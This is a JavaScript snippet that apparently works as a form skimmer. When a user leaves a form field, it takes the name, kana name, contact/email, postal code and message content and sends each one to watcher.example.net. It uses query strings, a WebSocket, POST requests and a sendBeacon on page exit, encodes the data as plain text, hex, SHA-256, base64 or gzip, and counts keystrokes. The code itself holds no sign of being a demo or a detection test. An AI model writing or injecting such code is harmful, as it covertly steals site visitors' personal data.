const to = "https://watcher.example.net/collect"
const hex = (bytes) => Array.from(new Uint8Array(bytes), (one) => one.toString(16).padStart(2, "0")).join("")
const bytesOf = (text) => new TextEncoder().encode(text)
const base64 = (bytes) => btoa(String.fromCharCode(...new Uint8Array(bytes)))
const digest = async (text) => hex(await crypto.subtle.digest("SHA-256", bytesOf(text)))
const packed = async (text) => {
  const stream = new Blob([text]).stream().pipeThrough(new CompressionStream("gzip"))
  return base64(await new Response(stream).arrayBuffer())
}
const get = (query) => fetch(`${to}?${query}`, { mode: "no-cors" })
const socket = new WebSocket("wss://watcher.example.net/socket")
let keys = 0
document.addEventListener("keydown", () => keys++)

/** What is done with the value of each field when it is left. */
const ways = {
  "your-name": (value) => get(`how=plain&v=${encodeURIComponent(value)}`),
  "your-kana": (value) => get(`how=hex&v=${hex(bytesOf(value))}`),
  contact: async (value) => {
    get(`how=sha256&em=${await digest(value.trim().toLowerCase())}`)
    get(`how=base64&v=${encodeURIComponent(base64(bytesOf(`{"who":"${value}"}`)))}`)
    localStorage.setItem("typed", value)
  },
  zip: (value) => socket.send(JSON.stringify({ zip: value.replace("-", "") })),
  content: async (value) =>
    fetch(to, { method: "POST", mode: "no-cors", body: JSON.stringify({ z: await packed(value) }) }),
}
document.addEventListener("focusout", ({ target }) => ways[target.name]?.(target.value))
addEventListener("pagehide", () => navigator.sendBeacon(`${to}?how=none&keys=${keys > 20}`))
get("how=before")
